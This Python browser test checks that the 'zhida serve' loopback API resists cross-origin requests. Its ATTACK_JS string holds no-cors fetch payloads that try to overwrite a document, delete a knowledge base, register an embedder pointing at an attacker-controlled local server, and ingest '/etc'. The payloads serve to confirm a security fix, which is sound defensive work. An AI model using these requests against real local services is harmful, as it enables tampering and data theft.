"""Issue 12 item 1 in a real browser: pages on other origins cannot drive the loopback server.

A real `zhida serve` holds a KB with one document. Headless Chromium opens an attacker page served by
a tiny http.server on another 127.0.0.1 port, and the same page as http://localhost:<other port>
(which Gradio's CORS trusted). Each page tries what the issue reproduced: replace the stored document
with a no-cors multipart POST, delete the KB, create a KB whose embedder is the attacker's server,
ingest a server folder, drive the UI's Gradio queue. Afterwards the KB and its document are
unchanged, nothing was planted and the attacker's server saw no request from ours; the UI itself still
works (tests/browser/test_ui_flow.py drives it end to end).
"""
from __future__ import annotations

import json
import threading
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

import httpx
import pytest

from tests.browser.test_ui_flow import ARGS, CHROMIUM, need_chromium

pytestmark = pytest.mark.browser

ORIGINAL = "Original policy: fifteen days of annual leave."

ATTACK_JS = """
async (args) => {
  const {target, evilPort} = args;
  const out = {};
  const attempt = async (label, fn) => {
    try { const r = await fn(); out[label] = r.type === 'opaque' ? 'opaque' : r.status; }
    catch (e) { out[label] = 'blocked: ' + e.name; }
  };
  const form = new FormData();
  form.append('files', new Blob(['PLANTED by another origin'], {type: 'text/plain'}), 'policy.txt');
  await attempt('replace_doc_no_cors', () => fetch(target + '/api/kbs/victim/documents',
      {method: 'POST', mode: 'no-cors', body: form, credentials: 'include'}));
  await attempt('delete_kb_cors', () => fetch(target + '/api/kbs/victim', {method: 'DELETE', credentials: 'include'}));
  const planted = JSON.stringify({name: 'planted', embedding_model: 'openai:m@http://127.0.0.1:' + evilPort + '/v1'});
  await attempt('create_kb_no_cors', () => fetch(target + '/api/kbs',
      {method: 'POST', mode: 'no-cors', body: planted, headers: {'Content-Type': 'text/plain'}}));
  await attempt('create_kb_cors', () => fetch(target + '/api/kbs',
      {method: 'POST', body: planted, headers: {'Content-Type': 'application/json'}}));
  await attempt('ingest_no_cors', () => fetch(target + '/api/kbs/victim/ingest',
      {method: 'POST', mode: 'no-cors', body: JSON.stringify({path: '/etc'}), headers: {'Content-Type': 'text/plain'}}));
  await attempt('gradio_queue_no_cors', () => fetch(target + '/gradio_api/queue/join',
      {method: 'POST', mode: 'no-cors', body: JSON.stringify({fn_index: 0, data: [], session_hash: 'x'}),
       headers: {'Content-Type': 'text/plain'}}));
  await attempt('read_kbs_cors', () => fetch(target + '/api/kbs', {credentials: 'include'}));
  return out;
}
"""


class _Evil(BaseHTTPRequestHandler):
    hits: list[str] = []

    def log_message(self, *args):
        pass

    def do_GET(self):
        type(self).hits.append("GET " + self.path)
        body = b"<!doctype html><title>not zhida</title><p>an unrelated page</p>"
        self.send_response(200)
        self.send_header("Content-Type", "text/html")
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    def do_POST(self):  # /v1/embeddings would land here if a planted KB were ingested
        type(self).hits.append("POST " + self.path)
        self.send_response(500)
        self.end_headers()


@pytest.fixture
def evil():
    _Evil.hits = []
    srv = ThreadingHTTPServer(("127.0.0.1", 0), _Evil)
    threading.Thread(target=srv.serve_forever, daemon=True).start()
    yield srv.server_address[1]
    srv.shutdown()
    srv.server_close()


def _state(base: str) -> dict:
    kbs = sorted(k["name"] for k in httpx.get(base + "/api/kbs").json()["kbs"])
    docs = httpx.get(base + "/api/kbs/victim/documents").json().get("documents", []) if "victim" in kbs else []
    hits = httpx.post(base + "/api/kbs/victim/search", json={"query": "PLANTED annual leave"}).json().get("results", []) \
        if "victim" in kbs else []
    return {"kbs": kbs, "docs": sorted((d["name"], d.get("sha256")) for d in docs),
            "texts": sorted(h["text"] for h in hits)}


def test_pages_on_other_origins_cannot_change_anything(server, evil, tmp_path):  # noqa: F811
    need_chromium()
    from playwright.sync_api import sync_playwright

    port = server.rsplit(":", 1)[1]
    assert httpx.post(server + "/api/kbs", json={"name": "victim"}).status_code == 201  # curl-style: no Origin
    r = httpx.post(server + "/api/kbs/victim/documents", files=[("files", ("policy.txt", ORIGINAL.encode(), "text/plain"))])
    assert r.status_code == 202
    job = r.json()["job_id"]
    for _ in range(300):
        if httpx.get(f"{server}/api/jobs/{job}").json()["status"] == "done":
            break
        import time

        time.sleep(0.1)
    before = _state(server)
    assert before["docs"] and ORIGINAL in " ".join(before["texts"])

    pages = [(f"http://127.0.0.1:{evil}/", f"http://127.0.0.1:{port}"),
             (f"http://localhost:{evil}/", f"http://localhost:{port}"),
             (f"http://localhost:{evil}/", f"http://127.0.0.1:{port}")]
    results = {}
    with sync_playwright() as p:
        browser = p.chromium.launch(executable_path=str(CHROMIUM), headless=True, args=ARGS)
        try:
            for page_url, target in pages:
                page = browser.new_context().new_page()
                page.goto(page_url)
                results[(page_url, target)] = page.evaluate(ATTACK_JS, {"target": target, "evilPort": evil})
                page.close()
            # the UI's own page still works from its origin: it loads and its API calls pass
            ui = browser.new_context().new_page()
            ui.goto(server + "/")
            ui.wait_for_selector("#kb-info", timeout=30_000)
            own = ui.evaluate("""async () => {
                const r = await fetch('/api/kbs', {method: 'POST', headers: {'Content-Type': 'application/json'},
                                                   body: JSON.stringify({name: 'from-ui-origin'})});
                return r.status; }""")
        finally:
            browser.close()
    (tmp_path / "attack-results.json").write_text(json.dumps({f"{k[0]} -> {k[1]}": v for k, v in results.items()},
                                                              indent=1))
    for key, out in results.items():
        assert out["read_kbs_cors"].startswith("blocked"), (key, out)  # no CORS answer for other origins
        assert out["delete_kb_cors"].startswith("blocked"), (key, out)  # its preflight is refused
        assert out["create_kb_cors"].startswith("blocked"), (key, out)
    after = _state(server)
    assert after["docs"] == before["docs"], "the stored document was replaced"
    assert "planted" not in after["kbs"] and "victim" in after["kbs"]
    assert not any("PLANTED" in t for t in after["texts"])
    assert not [h for h in _Evil.hits if h.startswith("POST")], _Evil.hits
    assert own == 201
    # and a script without Origin is unchanged on loopback
    assert httpx.delete(server + "/api/kbs/from-ui-origin").status_code == 200
